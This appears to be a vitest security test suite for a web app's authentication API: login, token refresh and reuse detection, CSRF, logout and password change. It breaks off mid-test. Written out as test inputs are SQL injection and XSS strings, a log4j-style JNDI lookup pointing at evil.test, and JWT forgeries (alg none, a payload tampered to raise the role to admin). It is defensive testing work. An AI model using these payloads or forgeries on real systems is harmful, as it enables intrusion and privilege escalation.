// Sign-in over real HTTP: login, refresh, reuse, logout with cookies (browsers) and with Bearer
// (tools), the caller's own profile and password change, CSRF, and the ugly inputs: forged tokens,
// huge passwords, look-alike emails, SQL and markup fragments.
import { createHash } from 'node:crypto';
import bcrypt from 'bcryptjs';
import { SignJWT } from 'jose';
import { describe, expect, test } from 'vitest';
import { ACCESS_COOKIE, AUDIENCE, CSRF_COOKIE, ISSUER, REFRESH_COOKIE } from '../lib/auth';
import { useTestApp } from './helpers/app';
import { createTestUser, TEST_PASSWORD, type TestUser } from './helpers/users';

const JWT_KEY = Buffer.from('auth-test-signing-key-of-at-least-32-bytes!!');
const app = useTestApp({
  env: {
    JWT_SIGNING_KEY: JWT_KEY.toString('base64'),
    // Every test here signs in from 127.0.0.1; throttling has its own file (test/throttle.test.ts).
    LOGIN_SOURCE_LIMIT: '100000',
  },
});

// ------------------------------------------------------------------------------------------------
// Helpers
// ------------------------------------------------------------------------------------------------

const jsonPost = (body: unknown, headers: Record<string, string> = {}): RequestInit => ({
  method: 'POST',
  headers: { 'Content-Type': 'application/json', ...headers },
  body: JSON.stringify(body),
});

interface SetCookie {
  value: string;
  attributes: Record<string, string | true>;
}

function setCookiesOf(response: Response): Map<string, SetCookie> {
  const cookies = new Map<string, SetCookie>();
  for (const line of response.headers.getSetCookie()) {
    const [pair, ...attributes] = line.split(';').map((part) => part.trim());
    const index = (pair as string).indexOf('=');
    const parsed: Record<string, string | true> = {};
    for (const attribute of attributes) {
      const [name, value] = attribute.split('=');
      parsed[(name as string).toLowerCase()] = value ?? true;
    }
    cookies.set((pair as string).slice(0, index), { value: (pair as string).slice(index + 1), attributes: parsed });
  }
  return cookies;
}

interface BrowserSession {
  access: string;
  refresh: string;
  csrf: string;
}

function sessionFrom(response: Response): BrowserSession {
  const cookies = setCookiesOf(response);
  return {
    access: cookies.get(ACCESS_COOKIE)?.value as string,
    refresh: cookies.get(REFRESH_COOKIE)?.value as string,
    csrf: cookies.get(CSRF_COOKIE)?.value as string,
  };
}

/** The headers a browser sends to an /api/auth route (all three cookies) with or without X-CSRF-Token. */
function browserHeaders(session: BrowserSession, withCsrf = true): Record<string, string> {
  return {
    Cookie: `${ACCESS_COOKIE}=${session.access}; ${REFRESH_COOKIE}=${session.refresh}; ${CSRF_COOKIE}=${session.csrf}`,
    ...(withCsrf ? { 'X-CSRF-Token': session.csrf } : {}),
  };
}

const login = (email: string, password: string, extra: Record<string, unknown> = {}) =>
  app.api('/auth/login', jsonPost({ email, password, ...extra }));

async function browserLogin(user: TestUser): Promise<BrowserSession> {
  const response = await login(user.email, TEST_PASSWORD);
  expect(response.status).toBe(200);
  return sessionFrom(response);
}

async function toolLogin(user: TestUser): Promise<{ accessToken: string; refreshToken: string }> {
  const response = await login(user.email, TEST_PASSWORD, { client: 'tool' });
  expect(response.status).toBe(200);
  return (await response.json()) as { accessToken: string; refreshToken: string };
}

const refreshAsTool = (refreshToken: string) => app.api('/auth/refresh', jsonPost({ refreshToken }));
const refreshAsBrowser = (session: BrowserSession, withCsrf = true) =>
  app.api('/auth/refresh', { method: 'POST', headers: browserHeaders(session, withCsrf) });

async function problemOf(response: Response) {
  expect(response.headers.get('content-type')).toMatch(/^application\/problem\+json/);
  return (await response.json()) as { type: string; title: string; status: number; detail?: string; errors?: unknown };
}

interface AuditRow {
  user_id: string | null;
  event: string | null;
  status: number;
  phi: boolean;
  route: string;
  resource_ids: Record<string, string> | null;
}

async function auditOf(response: Response): Promise<AuditRow> {
  const [row] = await app.db.sql<AuditRow[]>`
    select user_id, event, status, phi, route, resource_ids from audit_log
     where request_id = ${response.headers.get('x-request-id')}`;
  expect(row, 'one audit row for the request').toBeDefined();
  return row as AuditRow;
}

const familyStates = (userId: string) =>
  app.db.sql<{ family_id: string; revoked_at: Date | null; revoke_reason: string | null }[]>`
    select family_id, revoked_at, revoke_reason from refresh_tokens where user_id = ${userId} order by created_at`;

async function signToken(
  claims: Record<string, unknown>,
  options: { issuer?: string; audience?: string; expiresIn?: string | number; key?: Uint8Array } = {},
) {
  // A session id unless the case says otherwise, so each forgery has one defect only.
  const jwt = new SignJWT({ sid: crypto.randomUUID(), ...claims })
    .setProtectedHeader({ alg: 'HS256', typ: 'JWT' })
    .setIssuer(options.issuer ?? ISSUER)
    .setAudience(options.audience ?? AUDIENCE)
    .setJti(crypto.randomUUID())
    .setIssuedAt()
    .setExpirationTime(options.expiresIn ?? '15m');
  return jwt.sign(options.key ?? new Uint8Array(JWT_KEY));
}

const b64url = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

// ------------------------------------------------------------------------------------------------
// Login
// ------------------------------------------------------------------------------------------------

describe('login', () => {
  test('a browser gets three Strict, Secure cookies, the access token and a CSRF token, never the refresh token', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['student'], firstName: 'Ada', lastName: 'Lovelace' });
    const response = await login(user.email, TEST_PASSWORD);
    expect(response.status).toBe(200);
    expect(response.headers.get('cache-control')).toBe('no-store');
    const body = (await response.json()) as Record<string, unknown>;
    expect(body).toEqual({
      accessToken: expect.any(String),
      tokenType: 'Bearer',
      expiresIn: 900,
      csrfToken: expect.stringMatching(/^[\w-]{43}$/),
      user: { id: user.id, email: user.email, firstName: 'Ada', lastName: 'Lovelace', roles: ['student'] },
    });

    const cookies = setCookiesOf(response);
    expect(cookies.get(ACCESS_COOKIE)).toEqual({
      value: body.accessToken,
      attributes: { path: '/', 'max-age': '900', httponly: true, secure: true, samesite: 'Strict' },
    });
    expect(cookies.get(REFRESH_COOKIE)?.attributes).toEqual({
      path: '/api/auth',
      'max-age': String(7 * 24 * 3600),
      httponly: true,
      secure: true,
      samesite: 'Strict',
    });
    expect(cookies.get(REFRESH_COOKIE)?.value).toMatch(/^[\w-]{43}$/);
    // The CSRF cookie is the one the portal's script must read: not HttpOnly.
    expect(cookies.get(CSRF_COOKIE)).toEqual({
      value: body.csrfToken,
      attributes: { path: '/', 'max-age': String(7 * 24 * 3600), secure: true, samesite: 'Strict' },
    });

    // Only the token's SHA-256 is stored.
    const refresh = cookies.get(REFRESH_COOKIE)?.value as string;
    const stored = await app.db.sql`select token_hash from refresh_tokens where user_id = ${user.id}`;
    expect(stored).toHaveLength(1);
    expect(stored[0]?.token_hash).toEqual(createHash('sha256').update(refresh).digest());

    const audit = await auditOf(response);
    expect(audit).toMatchObject({ user_id: user.id, event: 'login_succeeded', status: 200, route: 'auth/login' });

    const me = await app.api('/auth/me', {
      headers: { Cookie: `${ACCESS_COOKIE}=${cookies.get(ACCESS_COOKIE)?.value}` },
    });
    expect(me.status).toBe(200);
  });

  test('a tool gets the refresh token in the body and no cookies, and uses the Bearer header', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['instructor'] });
    const response = await login(user.email, TEST_PASSWORD, { client: 'tool' });
    expect(response.status).toBe(200);
    expect(response.headers.getSetCookie()).toEqual([]);
    const body = (await response.json()) as { accessToken: string; refreshToken: string };
    expect(body.refreshToken).toMatch(/^[\w-]{43}$/);
    const me = await app.api('/auth/me', { headers: { Authorization: `Bearer ${body.accessToken}` } });
    expect(((await me.json()) as { id: string }).id).toBe(user.id);
  });

  test('unknown email, wrong password and inactive account get the same 401; each is audited', async () => {
    const known = await createTestUser(app.db.sql, { roles: ['student'] });
    const inactive = await createTestUser(app.db.sql, { roles: ['student'] });
    await app.db.sql`update users set status = 'inactive' where id = ${inactive.id}`;

    const attempts = [
      { response: await login('nobody-here@example.test', TEST_PASSWORD), userId: null },
      { response: await login(known.email, 'Wrong-Password-123'), userId: known.id },
      { response: await login(inactive.email, TEST_PASSWORD), userId: inactive.id },
    ];
    const bodies = [];
    for (const { response, userId } of attempts) {
      expect(response.status).toBe(401);
      expect(response.headers.getSetCookie()).toEqual([]);
      const { requestId: _, ...problem } = (await problemOf(response)) as Record<string, unknown>;
      bodies.push(problem);
      expect(await auditOf(response)).toMatchObject({ user_id: userId, event: 'login_failed', status: 401 });
    }
    expect(bodies[1]).toEqual(bodies[0]);
    expect(bodies[2]).toEqual(bodies[0]);
    expect(bodies[0]?.detail).toBe('The email address or password is not correct');
  });

  test('a legacy bcrypt hash signs in once and is replaced by Argon2id', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['student'] });
    const legacy = await bcrypt.hash(TEST_PASSWORD, 4);
    await app.db.sql`update users set password_hash = ${legacy} where id = ${user.id}`;

    expect((await login(user.email, 'Not-The-Password-1')).status).toBe(401);
    const [unchanged] = await app.db.sql`select password_hash from users where id = ${user.id}`;
    expect(unchanged?.password_hash).toBe(legacy);

    expect((await login(user.email, TEST_PASSWORD)).status).toBe(200);
    const [upgraded] = await app.db.sql`select password_hash from users where id = ${user.id}`;
    expect(upgraded?.password_hash).toMatch(/^\$argon2id\$v=19\$m=19456,t=2,p=1\$/);
    expect((await login(user.email, TEST_PASSWORD)).status).toBe(200);
  });

  test('passwords longer than 128 characters are refused before any hashing; huge bodies are 413', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['student'] });
    const [before] = await app.db.sql`select count(*)::int as n from login_attempts`;

    const long = await login(user.email, 'x'.repeat(129));
    expect(long.status).toBe(400);
    expect((await problemOf(long)).errors).toEqual([{ field: 'body.password', message: expect.any(String) }]);

    const huge = await login(user.email, 'x'.repeat(1_000_000));
    expect(huge.status).toBe(413);

    const [after] = await app.db.sql`select count(*)::int as n from login_attempts`;
    expect(after?.n).toBe(before?.n);
  });

  test.each([
    ['a number for the email', { email: 42, password: 'x' }],
    ['no password', { email: 'a@example.test' }],
    ['an unknown field', { email: 'a@example.test', password: 'x', admin: true }],
    ['an unknown client kind', { email: 'a@example.test', password: 'x', client: 'mobile' }],
    ['a 255-character email', { email: `${'a'.repeat(243)}@example.test`, password: 'x' }],
  ])('%s is a 400 naming the field', async (_, body) => {
    const response = await app.api('/auth/login', jsonPost(body));
    expect(response.status).toBe(400);
    const problem = await problemOf(response);
    expect(JSON.stringify(problem.errors)).toMatch(/body/);
  });
});

describe('look-alike email addresses', () => {
  test('the fullwidth spelling of an address is that same account (NFKC), never another one', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['admin'], email: 'admin.lookalike@example.test' });
    const fullwidth = 'ａｄｍｉｎ.ｌｏｏｋａｌｉｋｅ@ｅｘａｍｐｌｅ.ｔｅｓｔ';
    const response = await login(fullwidth, TEST_PASSWORD);
    expect(response.status).toBe(200);
    expect(((await response.json()) as { user: { id: string } }).user.id).toBe(user.id);
    expect((await login('ADMIN.LOOKALIKE@EXAMPLE.TEST', TEST_PASSWORD)).status).toBe(200);
  });

  test('a homoglyph from another script is a different (unknown) address: 401 even with the right password', async () => {
    await createTestUser(app.db.sql, { roles: ['admin'], email: 'homoglyph@example.test' });
    // Cyrillic а (U+0430) and о (U+043E)
    const response = await login('h\u043emoglyph@ex\u0430mple.test', TEST_PASSWORD);
    expect(response.status).toBe(401);
  });

  test.each([
    ['a zero-width joiner', 'zw\u200Dj@example.test'],
    ['a zero-width space', 'zw\u200Bsp@example.test'],
    ['a right-to-left override', 'rtl\u202Etset.elpmaxe@evil'],
    ['a byte-order mark', '\uFEFFbom@example.test'],
    ['a NUL character', 'nul\u0000@example.test'],
  ])('an email with %s is a 400, and nothing is recorded', async (_, email) => {
    await createTestUser(app.db.sql, { roles: ['student'], email: email.replace(/[\p{Cc}\p{Cf}]/gu, '') });
    const [before] = await app.db.sql`select count(*)::int as n from login_attempts`;
    const response = await login(email, TEST_PASSWORD);
    expect(response.status).toBe(400);
    expect((await problemOf(response)).errors).toEqual([{ field: 'body.email', message: expect.any(String) }]);
    const [after] = await app.db.sql`select count(*)::int as n from login_attempts`;
    expect(after?.n).toBe(before?.n);
  });
});

describe('SQL and markup fragments', () => {
  const fragments = [
    "' OR '1'='1' --",
    "admin@example.test'; DROP TABLE users; --",
    '<script>alert(1)</script>@example.test',
    '"><img src=x onerror=alert(1)>@x.test',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup, literally
    '${jndi:ldap://evil.test/a}@x.test',
  ];

  test.each(fragments)('%s as email and password: 400 or 401, no session, nothing of it stored', async (fragment) => {
    const [usersBefore] = await app.db.sql`select count(*)::int as n from users`;
    const response = await login(fragment, fragment);
    expect([400, 401]).toContain(response.status);
    expect(response.headers.getSetCookie()).toEqual([]);
    const [usersAfter] = await app.db.sql`select count(*)::int as n from users`;
    expect(usersAfter?.n).toBe(usersBefore?.n);
    // Neither the audit trail nor the throttle tables keep anything the client typed.
    const leaks = await app.db.sql`
      select 1 from audit_log a where a::text like ${`%${fragment}%`}
      union all select 1 from login_attempts l where l::text like ${`%${fragment}%`}
      union all select 1 from rate_limit_buckets r where r::text like ${`%${fragment}%`}`;
    expect(leaks).toHaveLength(0);
  });

  test('fragments in a name are refused and the stored name is unchanged', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['student'], firstName: 'Grace' });
    for (const fragment of ["Robert'); DROP TABLE users;--", '<script>alert(1)</script>', 'x'.repeat(101), '']) {
      const response = await app.api('/auth/me', {
        method: 'PATCH',
        headers: { ...user.headers, 'Content-Type': 'application/json' },
        body: JSON.stringify({ firstName: fragment }),
      });
      expect(response.status).toBe(400);
      const fields = ((await problemOf(response)).errors as { field: string }[]).map((error) => error.field);
      expect(new Set(fields)).toEqual(new Set(['body.firstName']));
    }
    const me = (await (await app.api('/auth/me', { headers: user.headers })).json()) as { firstName: string };
    expect(me.firstName).toBe('Grace');
  });
});

// ------------------------------------------------------------------------------------------------
// Refresh, reuse, logout
// ------------------------------------------------------------------------------------------------

describe('refresh', () => {
  test('a browser refreshes with the cookie and the CSRF header; cookies rotate', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['student'] });
    const session = await browserLogin(user);
    const response = await refreshAsBrowser(session);
    expect(response.status).toBe(200);
    const body = (await response.json()) as Record<string, unknown>;
    expect(body.refreshToken).toBeUndefined();
    const rotated = sessionFrom(response);
    expect(rotated.refresh).toMatch(/^[\w-]{43}$/);
    expect(rotated.refresh).not.toBe(session.refresh);
    expect(rotated.access).toBe(body.accessToken);
    expect(rotated.csrf).toBe(body.csrfToken);
    expect(await auditOf(response)).toMatchObject({
      user_id: user.id,
      event: null,
      status: 200,
      route: 'auth/refresh',
    });
    // The successor continues the same family.
    const states = await familyStates(user.id);
    expect(new Set(states.map((s) => s.family_id)).size).toBe(1);
    expect(states.map((s) => s.revoke_reason)).toEqual(['rotated', null]);
  });

  test('the refresh cookie without the CSRF header, or with a wrong one, is a 403 and rotates nothing', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['student'] });
    const session = await browserLogin(user);
    expect((await refreshAsBrowser(session, false)).status).toBe(403);
    const wrong = await app.api('/auth/refresh', {
      method: 'POST',
      headers: { ...browserHeaders(session, false), 'X-CSRF-Token': 'x'.repeat(43) },
    });
    expect(wrong.status).toBe(403);
    expect((await familyStates(user.id)).map((s) => s.revoke_reason)).toEqual([null]);
    expect((await refreshAsBrowser(session)).status).toBe(200);
  });

  test('a tool refreshes with the token in the body and gets the next one in the body', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['finance'] });
    const first = await toolLogin(user);
    const response = await refreshAsTool(first.refreshToken);
    expect(response.status).toBe(200);
    expect(response.headers.getSetCookie()).toEqual([]);
    const second = (await response.json()) as { refreshToken: string; accessToken: string };
    expect(second.refreshToken).not.toBe(first.refreshToken);
    expect((await refreshAsTool(second.refreshToken)).status).toBe(200);
  });

  test('a rotated token presented again revokes its whole family and is audited as reuse', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['student'] });
    const stolen = await toolLogin(user);
    const rotated = (await (await refreshAsTool(stolen.refreshToken)).json()) as { refreshToken: string };
    const other = await toolLogin(user); // another device: a different family, untouched

    const replay = await refreshAsTool(stolen.refreshToken);
    expect(replay.status).toBe(401);
    expect(await auditOf(replay)).toMatchObject({ user_id: user.id, event: 'refresh_token_reuse', status: 401 });
    // The legitimate successor is dead too: whoever holds it must sign in again.
    expect((await refreshAsTool(rotated.refreshToken)).status).toBe(401);
    expect((await refreshAsTool(other.refreshToken)).status).toBe(200);

    const reasons = (await familyStates(user.id)).map((s) => s.revoke_reason);
    expect(reasons.filter((r) => r === 'reuse_detected')).toHaveLength(1);
  });

  test('two concurrent refreshes with one token: exactly one succeeds', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['student'] });
    for (let round = 0; round < 3; round++) {
      const { refreshToken } = await toolLogin(user);
      const responses = await Promise.all(Array.from({ length: 4 }, () => refreshAsTool(refreshToken)));
      const statuses = responses.map((r) => r.status).sort();
      expect(statuses).toEqual([200, 401, 401, 401]);
    }
    // Exactly one successor per login, whatever the interleaving.
    const [successors] = await app.db.sql`
      select count(*)::int as n from refresh_tokens where user_id = ${user.id} and revoke_reason is distinct from 'rotated'
         and id in (select replaced_by from refresh_tokens where replaced_by is not null)`;
    expect(successors?.n).toBe(3);
  });

  test('a deactivated user cannot refresh; changed roles reach the next access token', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['student'] });
    const tool = await toolLogin(user);
    await app.db.sql`insert into user_roles (user_id, role_name) values (${user.id}, 'staff')`;
    const refreshed = await refreshAsTool(tool.refreshToken);
    const body = (await refreshed.json()) as { refreshToken: string; accessToken: string; user: { roles: string[] } };
    expect(body.user.roles).toEqual(['staff', 'student']);
    const claims = JSON.parse(Buffer.from(body.accessToken.split('.')[1] as string, 'base64url').toString());
    expect(claims.roles).toEqual(['staff', 'student']);

    await app.db.sql`update users set status = 'inactive' where id = ${user.id}`;
    expect((await refreshAsTool(body.refreshToken)).status).toBe(401);
  });

  test('expired, unknown, malformed and missing refresh tokens are 401', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['student'] });
    const tool = await toolLogin(user);
    await app.db
      .sql`update refresh_tokens set created_at = now() - interval '8 days', expires_at = now() - interval '1 day'
                      where user_id = ${user.id}`;
    expect((await refreshAsTool(tool.refreshToken)).status).toBe(401);
    expect((await refreshAsTool('A'.repeat(43))).status).toBe(401);
    expect((await refreshAsTool("' OR 1=1 --")).status).toBe(401);
    expect((await app.api('/auth/refresh', { method: 'POST' })).status).toBe(401);
    expect((await app.api('/auth/refresh', jsonPost({ refreshToken: 'x'.repeat(257) }))).status).toBe(400);
  });
});

describe('logout', () => {
  test('a browser logout revokes the family, clears the cookies and is idempotent', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['student'] });
    const session = await browserLogin(user);
    const response = await app.api('/auth/logout', { method: 'POST', headers: browserHeaders(session) });
    expect(response.status).toBe(204);
    const cleared = setCookiesOf(response);
    for (const name of [ACCESS_COOKIE, REFRESH_COOKIE, CSRF_COOKIE]) {
      expect(cleared.get(name)).toMatchObject({ value: '', attributes: { 'max-age': '0' } });
    }
    expect(cleared.get(REFRESH_COOKIE)?.attributes.path).toBe('/api/auth');
    expect(await auditOf(response)).toMatchObject({ user_id: user.id, route: 'auth/logout', status: 204 });
    expect((await familyStates(user.id)).map((s) => s.revoke_reason)).toEqual(['logout']);
    expect((await refreshAsBrowser(session)).status).toBe(401);

    const again = await app.api('/auth/logout', { method: 'POST', headers: browserHeaders(session) });
    expect(again.status).toBe(204);
    expect((await app.api('/auth/logout', { method: 'POST' })).status).toBe(204);
  });

  test('a browser logout without the CSRF header is refused', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['student'] });
    const session = await browserLogin(user);
    const response = await app.api('/auth/logout', { method: 'POST', headers: browserHeaders(session, false) });
    expect(response.status).toBe(403);
    expect((await refreshAsBrowser(session)).status).toBe(200);
  });

  test('a tool logs out with the refresh token in the body', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['student'] });
    const tool = await toolLogin(user);
    expect((await app.api('/auth/logout', jsonPost({ refreshToken: tool.refreshToken }))).status).toBe(204);
    expect((await refreshAsTool(tool.refreshToken)).status).toBe(401);
  });

  test('logout-all needs a signed-in caller and ends every session of that caller only', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['registrar'] });
    const bystander = await createTestUser(app.db.sql, { roles: ['registrar'] });
    const [a, b, c] = [await toolLogin(user), await toolLogin(user), await toolLogin(bystander)];
    expect((await app.api('/auth/logout-all', { method: 'POST' })).status).toBe(401);

    const response = await app.api('/auth/logout-all', {
      method: 'POST',
      headers: { Authorization: `Bearer ${a.accessToken}` },
    });
    expect(response.status).toBe(204);
    expect(await auditOf(response)).toMatchObject({ user_id: user.id, status: 204 });
    expect((await refreshAsTool(a.refreshToken)).status).toBe(401);
    expect((await refreshAsTool(b.refreshToken)).status).toBe(401);
    expect((await refreshAsTool(c.refreshToken)).status).toBe(200);
    expect((await familyStates(user.id)).map((s) => s.revoke_reason)).toEqual(['logout_all', 'logout_all']);
  });
});

// ------------------------------------------------------------------------------------------------
// The caller's own account
// ------------------------------------------------------------------------------------------------

describe('GET and PATCH /auth/me', () => {
  test('returns the decrypted profile, no-store, and leaves a PHI audit row naming the record', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['student'], firstName: 'Émilie', lastName: 'du Châtelet' });
    const response = await app.api('/auth/me', { headers: user.headers });
    expect(response.status).toBe(200);
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect(await response.json()).toMatchObject({
      id: user.id,
      email: user.email,
      firstName: 'Émilie',
      lastName: 'du Châtelet',
      roles: ['student'],
      status: 'active',
    });
    expect(await auditOf(response)).toMatchObject({ user_id: user.id, phi: true, resource_ids: { userId: user.id } });
  });

  test('PATCH with the access cookie needs the CSRF header: 403 without, 200 with', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['student'], firstName: 'Old', lastName: 'Name' });
    const session = await browserLogin(user);
    const patch = (headers: Record<string, string>) =>
      app.api('/auth/me', {
        method: 'PATCH',
        headers: { ...headers, 'Content-Type': 'application/json' },
        body: JSON.stringify({ lastName: "O'Brien-Núñez" }),
      });
    const refused = await patch(browserHeaders(session, false));
    expect(refused.status).toBe(403);
    expect(await auditOf(refused)).toMatchObject({ status: 403, phi: true });

    const accepted = await patch(browserHeaders(session));
    expect(accepted.status).toBe(200);
    expect(await accepted.json()).toMatchObject({ firstName: 'Old', lastName: "O'Brien-Núñez" });
    // The name search tokens follow the new name (a prefix search finds it without decrypting).
    const { nameSearchToken } = await import('../lib/crypto');
    const [found] = await app.db.sql`
      select id from users where name_search_tokens @> array[${nameSearchToken('nunez')}]::bytea[] and id = ${user.id}`;
    expect(found?.id).toBe(user.id);
  });

  test('the email cannot be changed here, and an empty change is refused', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['student'] });
    for (const body of [{ email: 'new@example.test' }, {}, { firstName: 'Ok', email: 'new@example.test' }]) {
      const response = await app.api('/auth/me', {
        method: 'PATCH',
        headers: { ...user.headers, 'Content-Type': 'application/json' },
        body: JSON.stringify(body),
      });
      expect(response.status).toBe(400);
    }
    expect(((await (await app.api('/auth/me', { headers: user.headers })).json()) as { email: string }).email).toBe(
      user.email,
    );
  });
});

describe('forged, expired and malformed access tokens are 401 in the header and in the cookie', () => {
  const forgeries: [string, (user: TestUser) => Promise<string>][] = [
    ['malformed', async () => 'not.a.jwt'],
    ['garbage bytes', async () => '%%%'],
    [
      'expired',
      (user) => signToken({ sub: user.id, roles: user.roles }, { expiresIn: Math.floor(Date.now() / 1000) - 60 }),
    ],
    ['alg none', async (user) => `${b64url({ alg: 'none', typ: 'JWT' })}.${user.token.split('.')[1]}.`],
    [
      'alg none with the real signature',
      async (user) => `${b64url({ alg: 'none', typ: 'JWT' })}.${user.token.split('.').slice(1).join('.')}`,
    ],
    // Signed with the real key, but naming no session: it could not be revoked, so it is refused.
    [
      'validly signed, without a session id (sid)',
      (user) => signToken({ sub: user.id, roles: user.roles, sid: undefined }),
    ],
    ['wrong audience', (user) => signToken({ sub: user.id, roles: user.roles }, { audience: 'another-api' })],
    ['wrong issuer', (user) => signToken({ sub: user.id, roles: user.roles }, { issuer: 'someone-else' })],
    [
      'another key',
      (user) => signToken({ sub: user.id, roles: user.roles }, { key: new Uint8Array(Buffer.alloc(32, 7)) }),
    ],
    [
      'tampered payload (role raised to admin)',
      async (user) => {
        const [header, payload, signature] = user.token.split('.');
        const claims = JSON.parse(Buffer.from(payload as string, 'base64url').toString());
        return `${header}.${b64url({ ...claims, roles: ['admin'] })}.${signature}`;
      },
    ],
    [
      'tampered signature',
      async (user) => `${user.token.slice(0, -4)}${user.token.endsWith('AAAA') ? 'BBBB' : 'AAAA'}`,
    ],
  ];

  test.each(forgeries)('%s', async (_, forge) => {
    const user = await createTestUser(app.db.sql, { roles: ['student'] });
    // The genuine token first, so it is one the app has verified and remembers (lib/auth.ts): a
    // forgery made from a remembered token is still checked in full.
    expect((await app.api('/auth/me', { headers: user.headers })).status).toBe(200);
    const token = await forge(user);
    const viaHeader = await app.api('/auth/me', { headers: { Authorization: `Bearer ${token}` } });
    const viaCookie = await app.api('/auth/me', { headers: { Cookie: `${ACCESS_COOKIE}=${token}` } });
    for (const response of [viaHeader, viaCookie]) {
      expect(response.status).toBe(401);
      expect((await problemOf(response)).type).toBe('urn:aada:problem:unauthorized');
    }
    // The genuine token still works: the 401s were about the forgery.
    expect((await app.api('/auth/me', { headers: user.headers })).status).toBe(200);
  });
});

describe('a token the app has verified before', () => {
  test('is refused once it expires, though it was accepted (and remembered) before', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['student'] });
    const expiresAt = Math.floor(Date.now() / 1000) + 4;
    const token = await signToken({ sub: user.id, roles: user.roles }, { expiresIn: expiresAt });
    const headers = { Authorization: `Bearer ${token}` };
    expect((await app.api('/auth/me', { headers })).status).toBe(200);
    // Until the clock passes its expiry (a token is expired once exp <= now, in whole seconds).
    while (Math.floor(Date.now() / 1000) < expiresAt) await new Promise((resolve) => setTimeout(resolve, 100));
    const response = await app.api('/auth/me', { headers });
    expect(response.status).toBe(401);
    expect((await problemOf(response)).type).toBe('urn:aada:problem:unauthorized');
  });

  test('two callers, interleaved, each get their own account every time', async () => {
    const student = await createTestUser(app.db.sql, { roles: ['student'] });
    const staff = await createTestUser(app.db.sql, { roles: ['staff'] });
    for (const user of [student, staff, student, staff]) {
      const response = await app.api('/auth/me', { headers: user.headers });
      expect(response.status).toBe(200);
      expect(await response.json()).toMatchObject({ id: user.id, roles: user.roles });
    }
  });
});

describe('change password', () => {
  const change = (headers: Record<string, string>, body: Record<string, unknown>) =>
    app.api('/auth/password', {
      method: 'POST',
      headers: { ...headers, 'Content-Type': 'application/json' },
      body: JSON.stringify(body),
    });
  const NEW_PASSWORD = 'Another-Long-Passphrase-42';

  test('keeps the current session, ends every other one, and the new password is the one that works', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['student'] });
    const current = await browserLogin(user);
    const otherBrowser = await browserLogin(user);
    const tool = await toolLogin(user);

    const response = await change(browserHeaders(current), {
      currentPassword: TEST_PASSWORD,
      newPassword: NEW_PASSWORD,
    });
    expect(response.status).toBe(204);
    expect(await auditOf(response)).toMatchObject({ user_id: user.id, event: 'password_changed', status: 204 });

    expect((await refreshAsBrowser(current)).status).toBe(200);
    expect((await refreshAsBrowser(otherBrowser)).status).toBe(401);
    expect((await refreshAsTool(tool.refreshToken)).status).toBe(401);
    const reasons = (await familyStates(user.id)).map((s) => s.revoke_reason);
    expect(reasons.filter((r) => r === 'password_changed')).toHaveLength(2);

    expect((await login(user.email, TEST_PASSWORD)).status).toBe(401);
    expect((await login(user.email, NEW_PASSWORD)).status).toBe(200);
  });

  test('a tool keeps the session its access token came from (sid), without sending the refresh token', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['student'] });
    const kept = await toolLogin(user);
    const other = await toolLogin(user);
    // A refreshed access token belongs to the same session: the family of the refresh token.
    const refreshed = (await (await refreshAsTool(kept.refreshToken)).json()) as typeof kept;
    const claims = JSON.parse(Buffer.from(refreshed.accessToken.split('.')[1] as string, 'base64url').toString());
    const [family] = await app.db.sql<{ family_id: string }[]>`
      select family_id from refresh_tokens where token_hash = ${createHash('sha256').update(refreshed.refreshToken).digest()}`;
    expect(claims.sid).toBe(family?.family_id);

    const bearer = { Authorization: `Bearer ${refreshed.accessToken}` };
    const response = await change(bearer, { currentPassword: TEST_PASSWORD, newPassword: NEW_PASSWORD });
    expect(response.status).toBe(204);
    expect((await refreshAsTool(refreshed.refreshToken)).status).toBe(200);
    expect((await refreshAsTool(other.refreshToken)).status).toBe(401);

    // The refresh token is no longer part of this request.
    const withToken = await change(bearer, {
      currentPassword: NEW_PASSWORD,
      newPassword: `${NEW_PASSWORD}!`,
      refreshToken: refreshed.refreshToken,
    });
    expect(withToken.status).toBe(400);

    // A token issued outside any session (the test helper signs its own) keeps none: every session ends.
    const again = await change(user.headers, { currentPassword: NEW_PASSWORD, newPassword: `${NEW_PASSWORD}!` });
    expect(again.status).toBe(204);
    expect((await familyStates(user.id)).every((s) => s.revoked_at !== null)).toBe(true);
  });

  test('a wrong current password, a short, common, email-like or reused new one: 400 naming the field; nothing changes', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['student'], email: 'margaret.hamilton@example.test' });
    const cases: [Record<string, unknown>, string][] = [
      [{ currentPassword: 'Wrong-Password-1', newPassword: NEW_PASSWORD }, 'body.currentPassword'],
      [{ currentPassword: TEST_PASSWORD, newPassword: 'short' }, 'body.newPassword'],
      [{ currentPassword: TEST_PASSWORD, newPassword: 'y'.repeat(129) }, 'body.newPassword'],
      [{ currentPassword: TEST_PASSWORD, newPassword: TEST_PASSWORD }, 'body.newPassword'],
      [{ currentPassword: TEST_PASSWORD, newPassword: '112233445566' }, 'body.newPassword'],
      [{ currentPassword: TEST_PASSWORD, newPassword: 'Margaret.Hamilton-2026' }, 'body.newPassword'],
    ];
    for (const [body, field] of cases) {
      const response = await change(user.headers, body);
      expect(response.status).toBe(400);
      expect(((await problemOf(response)).errors as { field: string }[]).map((e) => e.field)).toContain(field);
    }
